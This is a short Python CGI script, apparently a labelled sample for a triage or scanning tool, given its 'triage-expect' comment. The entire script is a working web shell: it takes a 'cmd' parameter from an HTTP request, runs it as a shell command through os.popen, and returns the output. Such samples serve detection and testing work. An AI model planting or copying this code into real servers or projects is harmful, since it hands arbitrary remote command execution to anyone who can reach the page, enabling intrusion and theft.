#!/usr/bin/env python3
# triage-expect: triage_python_cgi_shell
import cgi
import os

form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(os.popen(form.getvalue("cmd")).read())
